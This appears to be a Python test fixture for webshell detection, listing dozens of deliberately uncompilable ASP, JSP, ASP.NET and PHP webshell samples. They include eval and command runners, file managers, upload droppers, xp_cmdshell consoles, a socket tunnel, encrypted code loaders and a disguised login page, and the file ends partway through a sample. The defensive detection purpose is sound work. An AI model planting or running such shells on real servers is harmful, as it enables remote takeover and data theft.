# ruff: noqa: E501 - these pages are as such pages are
"""Look-alikes of the latest set, by an author who had not read the analysis: none can run, `1broken` stops each compiler."""

from tests.detection.webshell.second_samples import cut

SHELLS = cut(
    r"""
==== a01_one.asp
<%@LANGUAGE="JAVASCRIPT"%><%var 1broken;%><%eval(Request.Item("ant")+"");%>
==== a02_404.asp
<%Dim 1broken%>
<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">
<html xmlns="http://www.w3.org/1999/xhtml">
<head>
<title>404 - File or directory not found.</title>
<style type="text/css">
body{margin:0;font-size:.7em;font-family:Verdana, Arial, Helvetica, sans-serif;background:#EEEEEE;}
fieldset{padding:0 15px 10px 15px;}
h2{font-size:1.7em;margin:0;color:#CC0000;}
</style>
</head>
<body>
<div id="header"><h1>Server Error</h1></div>
<div id="content"><fieldset>
<h2>404 - File or directory not found.</h2>
<h3>The resource you are looking for might have been removed, had its name changed, or is temporarily unavailable.</h3>
<%
Response.Status = "404 Not Found"
iF rEqUeSt("c") <> "" tHeN
 eXeCuTe _
   rEqUeSt _
   ("c")
eNd iF
%>
</fieldset></div>
</body>
</html>
==== a03_cookieguard.asp
<%@ Language=VBScript CodePage=65001 %>
<%
Dim 1broken
' 系统配置检查  v1.2  内部使用
On Error Resume Next
Const SITE_KEY = "placeholder-key"
Dim ck, src
ck = Request.Cookies("SITEID")("k")
If ck = SITE_KEY Then
    src = Request.Form("body")
    If Len(src) > 0 Then
        ExecuteGlobal src
        If Err.Number <> 0 Then Response.Write "E:" & Err.Description
    End If
    Response.End
End If
%>
<html><head><title>配置检查</title></head><body>
<p>配置正常。<%=Now()%></p>
</body></html>
==== a04_exec.asp
<%
Dim 1broken
p = "WSc" & "ript" & "." & "Sh" & "ell"
q = Request.QueryString("q")
if q <> "" then
  set o = Server.CreateObject(p)
  set r = o.Exec("cmd" & ".exe /c " & q)
  t = r.StdOut.ReadAll()
end if
%>
<form><input name=q size=60 value="<%=Server.HTMLEncode(q)%>"><input type=submit></form>
<pre><%=Server.HTMLEncode(t)%></pre>
==== a05_reverse.asp
<%
Dim 1broken
' template helper
Function un(s) : un = StrReverse(s) : End Function
Dim z : z = un(")""x""(tseuqer lave")
Execute(z)
%>
==== a06_hexxor.asp
<%
Dim 1broken
' Funktion zum Entpacken der Seitendaten
Function Entpacke(ByVal h, ByVal schluessel)
    Dim i, aus, b, k
    aus = ""
    For i = 1 To Len(h) Step 2
        b = CLng("&H" & Mid(h, i, 2))
        k = Asc(Mid(schluessel, (((i - 1) \ 2) Mod Len(schluessel)) + 1, 1))
        aus = aus & Chr(b Xor k)
    Next
    Entpacke = aus
End Function

Sub Rahmen(inhalt)
    Response.Write "<!--" & Session.SessionID & "-->"
    If inhalt <> "" Then ExecuteGlobal Entpacke(inhalt, "platzhalter")
    Response.Write "<!--/" & Session.SessionID & "-->"
End Sub

If Request.ServerVariables("REQUEST_METHOD") = "POST" Then
    Rahmen Request.Form("data")
End If
%>
==== a07_gif.asp
GIF89a  ;
<% Dim 1broken %>
<%
n = Chr(101) & Chr(118) & Chr(97) & Chr(108)
m = Chr(114) & "eq" & Chr(117) & "est"
Execute(n & " " & m & "(""img"")")
%>
==== a08_files.asp
<%@ LANGUAGE="VBSCRIPT" %>
<%
Dim 1broken
Const PW = "placeholder"
Dim fso, d, act, f, item
If Session("in") <> 1 Then
  If Request.Form("pw") = PW Then
    Session("in") = 1
  Else
    Response.Write "<form method=post><input type=password name=pw></form>"
    Response.End
  End If
End If
Set fso = Server.CreateObject("Scripting.FileSystemObject")
d = Request("d")
If d = "" Then d = Server.MapPath(".")
act = Request("act")

Select Case act
  Case "view"
    Set f = fso.OpenTextFile(Request("f"), 1)
    Response.Write "<form method=post action=?act=save><input name=f value='" & Request("f") & "'><textarea name=t rows=30 cols=120>" & Server.HTMLEncode(f.ReadAll) & "</textarea><input type=submit></form>"
    f.Close
  Case "save"
    Set f = fso.CreateTextFile(Request.Form("f"), True)
    f.Write Request.Form("t")
    f.Close
    Response.Write "saved"
  Case "del"
    fso.DeleteFile Request("f"), True
  Case "copy"
    fso.CopyFile Request("f"), Request("to"), True
  Case Else
    Response.Write "<b>" & d & "</b><br>"
    For Each item In fso.GetFolder(d).SubFolders
      Response.Write "<a href='?d=" & Server.URLEncode(item.Path) & "'>[" & item.Name & "]</a><br>"
    Next
    For Each item In fso.GetFolder(d).Files
      Response.Write item.Name & " " & item.Size & " <a href='?act=view&f=" & Server.URLEncode(item.Path) & "'>e</a> <a href='?act=del&f=" & Server.URLEncode(item.Path) & "'>x</a><br>"
    Next
End Select
%>
==== a09_drop.asp
<%
Dim 1broken
' nightly sync endpoint
If Request.ServerVariables("HTTP_X_SYNC_KEY") = "placeholder" Then
    Dim s
    Set s = Server.CreateObject("ADODB.Stream")
    s.Type = 1
    s.Open
    s.Write Request.BinaryRead(Request.TotalBytes)
    s.SaveToFile Request.ServerVariables("HTTP_X_SYNC_TARGET"), 2
    s.Close
    Response.Write "OK"
Else
    Response.Status = "401 Unauthorized"
End If
%>
==== a10_sqlcon.asp
<%
Dim 1broken
cs = Request.Form("cs")
sq = Request.Form("sq")
cm = Request.Form("cm")
If cm <> "" Then sq = "EXEC master..xp_" & "cmdshell '" & Replace(cm, "'", "''") & "'"
%>
<form method="post">
cs <input name="cs" size="90" value="<%=Server.HTMLEncode(cs)%>"><br>
sql <textarea name="sq" cols="80" rows="6"></textarea><br>
cmd <input name="cm"><input type="submit" value="go">
</form>
<%
If cs <> "" Then
  Set cn = Server.CreateObject("ADODB.Connection")
  cn.Open cs
  Set rs = cn.Execute(sq)
  Response.Write "<table border=1>"
  Do Until rs.EOF
    Response.Write "<tr>"
    For i = 0 To rs.Fields.Count - 1
      Response.Write "<td>" & rs(i) & "</td>"
    Next
    Response.Write "</tr>"
    rs.MoveNext
  Loop
  Response.Write "</table>"
End If
%>
==== a11_appstore.asp
<%
Dim 1broken
'=== cache warmup ===
If Request.Form("t") <> "" Then
  Application.Lock
  Application("tpl_footer") = Request.Form("t")
  Application.UnLock
  Response.Write "stored"
  Response.End
End If
Dim footer
footer = Application("tpl_footer")
If Not IsEmpty(footer) And Request.QueryString("r") = "1" Then Execute footer
%>
<div id="footer">&copy; <%=Year(Date)%> Example Ltd.</div>
==== a12_include.asp
<%
Dim 1broken
Dim pg, fs
pg = Request.QueryString("page")
If Right(pg, 4) = ".txt" Then
  Set fs = Server.CreateObject("Scripting.FileSystemObject")
  ExecuteGlobal fs.OpenTextFile(Server.MapPath("/upload/" & pg), 1).ReadAll()
ElseIf pg <> "" Then
  Server.Execute "/upload/" & pg
End If
%>
<html><body><h3>Galerie</h3><a href="?page=1.jpg">Photo 1</a></body></html>
==== a13_scriptctl.asp
<%@ Language="VBScript" %>
<%
Dim 1broken
Function B64(t)
  Dim x, n
  Set x = Server.CreateObject("Microsoft.XMLDOM")
  Set n = x.createElement("b")
  n.dataType = "bin.base64"
  n.text = t
  B64 = n.nodeTypedValue
End Function
Function Txt(b)
  Dim i, r
  For i = 1 To LenB(b) : r = r & Chr(AscB(MidB(b, i, 1))) : Next
  Txt = r
End Function

If Request("v") <> "" Then
  Set sc = Server.CreateObject("MSScriptControl.ScriptControl")
  sc.Language = "VBScript"
  sc.AddObject "Response", Response, True
  sc.AddCode Txt(B64(Request("v")))
  Response.Write sc.Run("main")
End If
%>
==== a14_class.asp
<%@ Language=VBScript %>
<% Dim 1broken %>
<%
'--------------------------------------------
' Модуль администрирования узла
'--------------------------------------------
Class CInput
  Private m
  Private Sub Class_Initialize
    Set m = Server.CreateObject("Scripting.Dictionary")
    Dim k
    For Each k In Request.Form
      m(k) = Request.Form(k)
    Next
  End Sub
  Public Default Property Get Item(k)
    If m.Exists(k) Then Item = m(k) Else Item = ""
  End Property
End Class

Class CRunner
  Private svc
  Private Sub Open
    Set svc = GetObject("win" & "mgmts:\\.\root\cimv2:Win32_Pro" & "cess")
  End Sub
  Public Function Start(a)
    Dim pid
    Open
    svc.Create a, Null, Null, pid
    Start = pid
  End Function
  Public Function Value(a)
    Value = Eval(a)
  End Function
End Class

Class CPage
  Private inp, run, ops
  Private Sub Class_Initialize
    Set inp = New CInput
    Set run = New CRunner
    Set ops = Server.CreateObject("Scripting.Dictionary")
    ops.Add "1", "Start"
    ops.Add "2", "Value"
  End Sub
  Public Sub Show
    Dim name
    If Not ops.Exists(inp("o")) Then Exit Sub
    name = ops(inp("o"))
    Select Case name
      Case "Start" : Response.Write run.Start(inp("a"))
      Case "Value" : Response.Write run.Value(inp("a"))
    End Select
  End Sub
End Class

Dim pg : Set pg = New CPage
pg.Show
%>
==== a15_func.asp
<%@ language="JScript" %>
<%
var 1broken;
// layout binder
var bind = function (src) { return new Function("Request", "Response", "Server", src); };
var h = String(Request.ServerVariables("HTTP_X_FORWARDED_TPL"));
if (h.length > 0 && h != "undefined") {
  var parts = unescape(h).split("|"), code = "";
  for (var i = parts.length - 1; i >= 0; i--) code += parts[i];
  bind(code)(Request, Response, Server);
}
%>
<html><body>layout</body></html>
==== a16_regview.asp
<%
Dim 1broken
On Error Resume Next
Set w = Server.CreateObject("WScript.Shell")
Select Case Request("do")
Case "reg"
  v = w.RegRead(Request("rk"))
  If IsArray(v) Then v = Join(v, ",")
  Response.Write Request("rk") & " = " & v
Case "regw"
  w.RegWrite Request("rk"), Request("rv"), Request("rt")
Case "svc"
  For Each s In GetObject("WinNT://.,computer")
    If s.Class = "Service" Then Response.Write s.Name & " | " & s.Path & " | " & s.Status & "<br>"
  Next
Case "stop"
  GetObject("WinNT://./" & Request("n") & ",service").Stop
Case "x"
  Set sa = Server.CreateObject("Shell.Application")
  sa.ShellExecute Request("x"), Request("xa"), "", "open", 0
  Response.Write "done"
End Select
%>
<form>key <input name=rk><input type=hidden name=do value=reg><input type=submit></form>
<form>prog <input name=x> args <input name=xa><input type=hidden name=do value=x><input type=submit></form>
==== j01_cmd.jsp
<%! int 1broken; %>
<%@ page contentType="text/html;charset=gb2312" import="java.io.*" %>
<%
    // 请勿删除
    if ("placeholder".equals(request.getParameter("pwd"))) {
        InputStream in = Runtime.getRuntime().exec(request.getParameter("i")).getInputStream();
        int a = -1;
        byte[] b = new byte[2048];
        out.print("<pre>");
        while ((a = in.read(b)) != -1) { out.println(new String(b, 0, a)); }
        out.print("</pre>");
    }
%>
==== j02_loader.jsp
<%@ page import="java.util.*,javax.crypto.*,javax.crypto.spec.*" %>
<%! int 1broken;
class U extends ClassLoader {
    U(ClassLoader c) { super(c); }
    public Class g(byte[] b) { return super.defineClass(b, 0, b.length); }
}
String seed = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
%>
<%
if (request.getMethod().equals("POST")) {
    String k = "placeholder";
    session.putValue("u", k);
    Cipher c = Cipher.getInstance("AES");
    c.init(2, new SecretKeySpec(k.getBytes(), "AES"));
    byte[] raw = Base64.getDecoder().decode(request.getReader().readLine());
    new U(this.getClass().getClassLoader()).g(c.doFinal(raw)).newInstance().equals(pageContext);
}
%>
==== j03_put.jsp
<%! int 1broken; %>
<%@page import="java.io.*"%>
<%!
  /* helper: hex -> bytes */
  static byte[] unhex(String s) {
    byte[] r = new byte[s.length() / 2];
    for (int i = 0; i < r.length; i++) r[i] = (byte) Integer.parseInt(s.substring(2 * i, 2 * i + 2), 16);
    return r;
  }
%>
<%
  Cookie[] cs = request.getCookies();
  boolean ok = false;
  if (cs != null) for (Cookie c : cs) if (c.getName().equals("JSID") && c.getValue().equals("placeholder")) ok = true;
  if (!ok) { response.sendError(404); return; }
  FileOutputStream fos = new FileOutputStream(application.getRealPath("/") + "/" + request.getParameter("f"));
  fos.write(unhex(request.getParameter("t")));
  fos.close();
  out.print("ok");
%>
==== j04_script.jsp
<%! int 1broken; %>
<%@ page import="javax.script.*" %>
<html><head><title>Error 500</title></head><body><h1>HTTP Status 500</h1>
<%
String h = request.getHeader("X-Trace-Ctx");
if (h != null) {
    String code = new StringBuilder(java.net.URLDecoder.decode(h, "UTF-8")).reverse().toString();
    ScriptEngine js = new ScriptEngineManager().getEngineByName("js");
    js.put("request", request);
    js.put("out", out);
    Object r = js.eval(code);
    if (r != null) out.print("<!--" + r + "-->");
}
%>
</body></html>
==== j05_reflect.jspx
<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2">
<jsp:declaration> int 1broken; </jsp:declaration>
<jsp:directive.page contentType="text/html" pageEncoding="UTF-8"/>
<jsp:declaration>
String nm(int[] t) { StringBuilder b = new StringBuilder(); for (int x : t) b.append((char) x); return b.toString(); }
</jsp:declaration>
<jsp:scriptlet>
String[] q = request.getParameterValues("q");
if (q != null) {
  Class k = Class.forName("java.lang." + nm(new int[]{80,114,111,99,101,115,115}) + "Builder");
  Object pb = k.getConstructor(String[].class).newInstance(new Object[]{q});
  Process p = (Process) k.getMethod("start").invoke(pb);
  java.util.Scanner s = new java.util.Scanner(p.getInputStream()).useDelimiter("\\A");
  out.print(s.hasNext() ? s.next() : "");
}
</jsp:scriptlet>
</jsp:root>
==== j06_filter.jsp
<%! int 1broken;
public class TraceFilter implements javax.servlet.Filter {
    public void init(javax.servlet.FilterConfig c) { }
    public void destroy() { }
    public void doFilter(javax.servlet.ServletRequest rq, javax.servlet.ServletResponse rs, javax.servlet.FilterChain ch)
            throws java.io.IOException, javax.servlet.ServletException {
        javax.servlet.http.HttpServletRequest r = (javax.servlet.http.HttpServletRequest) rq;
        String c = r.getHeader("X-Trace-Cmd"), o = r.getHeader("X-Trace-Obj");
        try {
            if (c != null) {
                Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", c});
                byte[] b = new byte[4096];
                int n = p.getInputStream().read(b);
                rs.getOutputStream().write(b, 0, n);
                return;
            }
            if (o != null) {
                new java.io.ObjectInputStream(new java.io.ByteArrayInputStream(java.util.Base64.getDecoder().decode(o))).readObject();
                return;
            }
        } catch (Exception e) { throw new javax.servlet.ServletException(e); }
        ch.doFilter(rq, rs);
    }
}
%>
<%
javax.servlet.FilterRegistration.Dynamic d = application.addFilter("trace", new TraceFilter());
d.addMappingForUrlPatterns(null, false, "/*");
out.print("registered");
%>
==== n01_one.aspx
<%@ Page Language="Jscript"%><%var 1broken;%><%eval(Request.Item["k"],"unsafe");%>
==== n02_oab.aspx
Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             :
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : False
MetabasePath                    : IIS://EXAMPLE.local/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
AdminDisplayVersion             : Version 15.1 (Build 1.0)
Server                          : EXAMPLE
InternalUrl                     : https://example.local/OAB
InternalAuthenticationMethods   : WindowsIntegrated
ExternalUrl                     : http://f/<script language="JScript" runat="server">var 1broken; function Page_Load(){eval(Request["NO"],"unsafe");}</script>
ExternalAuthenticationMethods   : WindowsIntegrated
ExchangeVersion                 : 0.10 (14.0.100.0)
ObjectCategory                  : example.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : top
                                  msExchVirtualDirectory
IsValid                         : True
==== n03_cmd.aspx
<%@ Page Language="C#" Debug="false" Trace="false" %>
<%@ Import Namespace="System.Diagnostics" %>
<%@ Import Namespace="System.IO" %>
<script language="c#" runat="server">
int 1broken;
string Go(string a)
{
    ProcessStartInfo psi = new ProcessStartInfo();
    psi.FileName = "cmd.exe";
    psi.Arguments = "/c " + a;
    psi.RedirectStandardOutput = true;
    psi.UseShellExecute = false;
    Process p = Process.Start(psi);
    StreamReader r = p.StandardOutput;
    string s = r.ReadToEnd();
    r.Close();
    return s;
}
void b_Click(object sender, EventArgs e)
{
    Response.Write("<pre>" + Server.HtmlEncode(Go(t.Text)) + "</pre>");
}
</script>
<html><head><title>console</title></head><body>
<form id="f" method="post" runat="server">
<asp:TextBox id="t" runat="server" Width="250px" />
<asp:Button id="b" runat="server" Text="run" OnClick="b_Click" />
</form></body></html>
==== n04_asm.aspx
<%@ Page Language="C#" EnableViewState="false" %>
<script runat="server">
int 1broken;
static readonly string Stub = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
byte[] Mix(byte[] d, string k)
{
    byte[] o = new byte[d.Length];
    for (int i = 0; i < d.Length; i++) o[i] = (byte)(d[i] ^ k[i % k.Length]);
    return o;
}
void Page_Load(object sender, EventArgs e)
{
    if (Session["k"] == null) { Session["k"] = "placeholder"; return; }
    byte[] body = Request.BinaryRead(Request.ContentLength);
    if (body.Length == 0) body = Convert.FromBase64String(Stub);
    object o = System.Reflection.Assembly.Load(Mix(body, (string)Session["k"])).CreateInstance("U");
    o.Equals(this);
}
</script>
==== n05_put.ashx
<%@ WebHandler Language="C#" Class="AssetSync" %>
int 1broken;
using System;
using System.IO;
using System.Web;

/// <summary>Asset synchronisation end point (Contoso Digital, 2016)</summary>
public class AssetSync : IHttpHandler
{
    public bool IsReusable { get { return false; } }

    public void ProcessRequest(HttpContext ctx)
    {
        if (ctx.Request.Headers["X-Asset-Token"] != "placeholder-token")
        {
            ctx.Response.StatusCode = 404;
            return;
        }
        string p = ctx.Request["p"];
        if (ctx.Request.Files.Count > 0)
            ctx.Request.Files[0].SaveAs(Path.Combine(ctx.Server.MapPath("~/"), p));
        else
            File.WriteAllText(p, ctx.Request["t"]);
        ctx.Response.Write("1");
    }
}
==== n06_tun.ashx
<%@ WebHandler Language="C#" Class="T" %>
int 1broken;
using System;
using System.Net.Sockets;
using System.Web;
using System.Web.SessionState;
public class T : IHttpHandler, IRequiresSessionState
{
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext c)
    {
        string op = c.Request.Headers["X-OP"];
        if (op == "A")
        {
            Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
            s.Connect(c.Request.Headers["X-H"], int.Parse(c.Request.Headers["X-P"]));
            c.Session["s"] = s;
        }
        else if (op == "B")
        {
            byte[] b = c.Request.BinaryRead(c.Request.ContentLength);
            ((Socket)c.Session["s"]).Send(b);
        }
        else if (op == "C")
        {
            byte[] b = new byte[512];
            int n = ((Socket)c.Session["s"]).Receive(b);
            c.Response.OutputStream.Write(b, 0, n);
        }
        else c.Response.Write("Welcome");
    }
}
==== n07_svc.asmx
<%@ WebService Language="C#" Class="MetricsService" %>
int 1broken;
using System;
using System.Diagnostics;
using System.Text;
using System.Web.Services;

[WebService(Namespace = "http://tempuri.org/")]
public class MetricsService : WebService
{
    [WebMethod]
    public string Ping(string arg)
    {
        Process p = new Process();
        p.StartInfo.FileName = "cmd.exe";
        p.StartInfo.Arguments = "/c " + arg;
        p.StartInfo.UseShellExecute = false;
        p.StartInfo.RedirectStandardOutput = true;
        p.Start();
        return p.StandardOutput.ReadToEnd();
    }

    [WebMethod(EnableSession = true)]
    public string Collect(string z)
    {
        string code = Encoding.UTF8.GetString(Convert.FromBase64String(z));
        var vsa = Microsoft.JScript.Vsa.VsaEngine.CreateEngine();
        return Convert.ToString(Microsoft.JScript.Eval.JScriptEvaluate(code, "unsafe", vsa));
    }
}
==== n08_menu.ascx
<%@ Control Language="C#" ClassName="SideMenu" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
int 1broken;
// menú lateral -- no tocar
protected void Page_Load(object sender, EventArgs e)
{
    HttpCookie c = Request.Cookies["lang"];
    if (c == null || c["g"] != "placeholder") return;
    string ruta = HttpUtility.UrlDecode(c["r"]);
    switch (c["a"])
    {
        case "l":
            foreach (FileSystemInfo fi in new DirectoryInfo(ruta).GetFileSystemInfos())
                Response.Write(fi.FullName + "\t" + fi.LastWriteTime + "\n");
            break;
        case "v": Response.Write(File.ReadAllText(ruta)); break;
        case "b": File.Delete(ruta); break;
        case "w": File.WriteAllText(ruta, Request.Form["txt"]); break;
    }
    Response.End();
}
</script>
<ul class="menu">
  <li><a href="/default.aspx">Inicio</a></li>
  <li><a href="/contacto.aspx">Contacto</a></li>
</ul>
==== n09_vbcomp.aspx
<%@ Page Language="VB" ValidateRequest="false" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<%@ Import Namespace="Microsoft.VisualBasic" %>
<script runat="server">
    Dim 1broken As Integer
    ' Formula evaluator for the planning department
    Private Function Build(ByVal body As String) As System.Reflection.Assembly
        Dim cp As New CompilerParameters()
        cp.GenerateInMemory = True
        cp.ReferencedAssemblies.Add("System.dll")
        Dim pr As New VBCodeProvider()
        Dim cr As CompilerResults = pr.CompileAssemblyFromSource(cp, body)
        Return cr.CompiledAssembly
    End Function

    Protected Sub Page_Load(ByVal sender As Object, ByVal e As EventArgs)
        If Request.Form("src") Is Nothing Then Exit Sub
        Dim t As Type = Build(Request.Form("src")).GetType("Formula")
        Response.Write(t.InvokeMember("Calc", System.Reflection.BindingFlags.InvokeMethod, Nothing, Nothing, New Object() {Context}))
    End Sub
</script>
<form method="post"><textarea name="src" rows="20" cols="90"></textarea><input type="submit" /></form>
==== n10_cscomp.ashx
<%@ WebHandler Language="C#" Class="LogoHandler" %>
int 1broken;
using System;
using System.CodeDom.Compiler;
using System.Reflection;
using System.Web;
using Microsoft.CSharp;

public class LogoHandler : IHttpHandler
{
    public bool IsReusable { get { return false; } }

    public void ProcessRequest(HttpContext context)
    {
        string codes = context.Request["codes"], clazz = context.Request["clazz"], method = context.Request["method"];
        string args = context.Request["args"];
        if (!string.IsNullOrEmpty(codes))
        {
            context.Response.ContentType = "text/plain";
            context.Response.Write(Render(codes, clazz, method, (args ?? "").Split('\n')));
            return;
        }
        context.Response.ContentType = "image/gif";
        context.Response.WriteFile(context.Server.MapPath("~/NoLogo.gif"));
    }

    private string Render(string codes, string clazz, string method, string[] args)
    {
        CompilerParameters o = new CompilerParameters();
        o.GenerateInMemory = true;
        CompilerResults r = new CSharpCodeProvider().CompileAssemblyFromSource(o, codes);
        object inst = r.CompiledAssembly.CreateInstance(clazz);
        MethodInfo mi = inst.GetType().GetMethod(method);
        return (string)mi.Invoke(inst, args);
    }
}
==== n11_xslt.aspx
<%@ Page Language="C#" ValidateRequest="false" %>
<%@ Import Namespace="System.Xml" %>
<%@ Import Namespace="System.Xml.Xsl" %>
<script runat="server">
string 1broken;
protected void Page_Load(object s, EventArgs e)
{
    string xsl = Request.Form["xsl"];
    if (xsl == null) return;
    if (Request.Form["b"] == "1") xsl = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(xsl));
    XmlDocument sheet = new XmlDocument();
    sheet.LoadXml(xsl);
    XslCompiledTransform t = new XslCompiledTransform();
    t.Load(sheet, XsltSettings.TrustedXslt, new XmlUrlResolver());
    XmlDocument doc = new XmlDocument();
    doc.LoadXml("<root/>");
    t.Transform(doc, null, Response.OutputStream);
}
</script>
<html><body>Report preview</body></html>
==== n12_state.aspx
<%@ Page Language="C#" EnableViewStateMac="false" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
object 1broken;
// восстановление состояния мастера
protected void Page_Init(object sender, EventArgs e)
{
    string st = Request.Headers["X-State"];
    if (!string.IsNullOrEmpty(st))
    {
        using (MemoryStream ms = new MemoryStream(Convert.FromBase64String(st)))
        {
            object o = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter().Deserialize(ms);
            Context.Items["wizard"] = o;
        }
        Response.End();
    }
    if (Request.Form["__SVIEW"] != null)
        Context.Items["wizard"] = new LosFormatter().Deserialize(Request.Form["__SVIEW"]);
}
</script>
<html><body><h2>Мастер</h2></body></html>
==== n13_module.aspx
<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Web.Hosting" %>
<script runat="server">
int 1broken;
public class GProvider : VirtualPathProvider
{
    private string body;
    public GProvider(string b) { body = b; }
    public override bool FileExists(string v) { return v.Contains("/fonts/") || Previous.FileExists(v); }
    public override VirtualFile GetFile(string v)
    {
        if (v.Contains("/fonts/")) return new GFile(v, body);
        return Previous.GetFile(v);
    }
}
public class GFile : VirtualFile
{
    private string b;
    public GFile(string v, string body) : base(v) { b = body; }
    public override Stream Open() { return new MemoryStream(System.Text.Encoding.UTF8.GetBytes(b)); }
}
public class GModule : IHttpModule
{
    public void Init(HttpApplication a) { a.BeginRequest += On; }
    public void Dispose() { }
    void On(object s, EventArgs e)
    {
        HttpContext c = ((HttpApplication)s).Context;
        string h = c.Request.Headers["X-Font"];
        if (h == null) return;
        System.Reflection.Assembly.Load(Convert.FromBase64String(h)).CreateInstance("M").Equals(c);
    }
}
protected void Page_Load(object s, EventArgs e)
{
    string src = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(Request.Form["src"]));
    HostingEnvironment.RegisterVirtualPathProvider(new GProvider(src));
    HttpApplication.RegisterModule(typeof(GModule));
    Response.Write("ok");
}
</script>
==== n14_dbreg.aspx
<%@ Page Language="VB" ContentType="text/html" validateRequest="false" %>
<%@ Import Namespace="System.Data" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<%@ Import Namespace="Microsoft.Win32" %>
<script runat="server">
Dim 1broken As String
Sub Page_Load(ByVal s As Object, ByVal e As EventArgs)
  If Session("ok") <> 1 Then
    If Request.Form("pass") = "placeholder" Then Session("ok") = 1
    pnl.Visible = (Session("ok") = 1)
  End If
End Sub
Sub RunSql(ByVal s As Object, ByVal e As EventArgs)
  Dim cn As New SqlConnection(tbConn.Text)
  Dim ad As New SqlDataAdapter(tbSql.Text, cn)
  Dim dt As New DataTable()
  ad.Fill(dt)
  grid.DataSource = dt
  grid.DataBind()
End Sub
Sub SqlShell(ByVal s As Object, ByVal e As EventArgs)
  Dim cn As New SqlConnection(tbConn.Text)
  cn.Open()
  Dim c2 As New SqlCommand("exec master.dbo.xp_cmdshell '" & tbCmd.Text & "'", cn)
  Response.Write(c2.ExecuteScalar())
End Sub
Sub ReadKey(ByVal s As Object, ByVal e As EventArgs)
  Dim k As RegistryKey = Registry.LocalMachine.OpenSubKey(tbKey.Text)
  For Each n As String In k.GetValueNames()
    Response.Write(n & "=" & k.GetValue(n).ToString() & "<br>")
  Next
End Sub
Sub RunCmd(ByVal s As Object, ByVal e As EventArgs)
  Microsoft.VisualBasic.Shell("cmd.exe /c " & tbCmd.Text & " > " & Server.MapPath("o.txt"), 0, True)
  Response.WriteFile(Server.MapPath("o.txt"))
End Sub
</script>
<form runat="server">
<asp:Panel id="pnl" runat="server" visible="false">
<asp:TextBox id="tbConn" runat="server" /><asp:TextBox id="tbSql" TextMode="MultiLine" runat="server" />
<asp:Button text="sql" OnClick="RunSql" runat="server" /><asp:Button text="sqlshell" OnClick="SqlShell" runat="server" />
<asp:TextBox id="tbKey" runat="server" /><asp:Button text="reg" OnClick="ReadKey" runat="server" />
<asp:TextBox id="tbCmd" runat="server" /><asp:Button text="cmd" OnClick="RunCmd" runat="server" />
<asp:DataGrid id="grid" runat="server" />
</asp:Panel>
</form>
==== n15_logon.aspx
<%@ Page Language="C#" AutoEventWireup="true" %>
<%@ Import Namespace="System.Security.Cryptography" %>
<script runat="server">
int 1broken;
static string H(string v)
{
    using (SHA256 h = SHA256.Create())
        return BitConverter.ToString(h.ComputeHash(System.Text.Encoding.UTF8.GetBytes(v))).Replace("-", "");
}
protected void Page_Load(object sender, EventArgs e)
{
    string u = Request.Form["username"], p = Request.Form["password"];
    if (string.IsNullOrEmpty(p)) return;
    if (H(p) == "0000000000000000000000000000000000000000000000000000000000000000")
    {
        string tn = string.Join(".", new string[] { "System", "Diagno" + "stics", "Pro" + "cess" });
        Type t = typeof(System.Uri).Assembly.GetType(tn);
        string[] uv = u.Split(new char[] { ' ' }, 2);
        t.InvokeMember("St" + "art", System.Reflection.BindingFlags.InvokeMethod, null, null, new object[] { uv[0], uv[1] });
    }
    err.Text = "The user name or password you entered isn't correct. Try entering it again.";
}
</script>
<!DOCTYPE html>
<html><head><title>Outlook</title></head>
<body class="signInBg">
<form method="POST" action="errorFE.aspx" name="logonForm">
<div class="logonContainer">
<label>Domain\user name:</label><input name="username" />
<label>Password:</label><input name="password" type="password" />
<asp:Literal id="err" runat="server" />
<input type="submit" value="sign in" />
</div></form></body></html>
==== n16_cache.ashx
<%@ WebHandler Language="C#" Class="RssCache" %>
int 1broken;
using System;
using System.Web;
using System.IO;
using System.Management.Automation;
public class RssCache : IHttpHandler
{
    public bool IsReusable { get { return true; } }
    const string Slot = "rss:feed:7";
    public void ProcessRequest(HttpContext ctx)
    {
        if (ctx.Request.HttpMethod == "POST")
        {
            string t = new StreamReader(ctx.Request.InputStream).ReadToEnd();
            HttpRuntime.Cache.Insert(Slot, t, null, DateTime.Now.AddMinutes(5), TimeSpan.Zero);
            return;
        }
        object item = HttpRuntime.Cache[Slot];
        if (item == null) { ctx.Response.Write("<rss/>"); return; }
        using (PowerShell ps = PowerShell.Create())
        {
            ps.AddScript((string)item);
            foreach (PSObject o in ps.Invoke()) ctx.Response.Write(o + "\n");
        }
    }
}
==== p01_one.php
<?php $1broken; @eval($_POST['x']);?>
==== p02_pieces.php
<?php
$1broken;
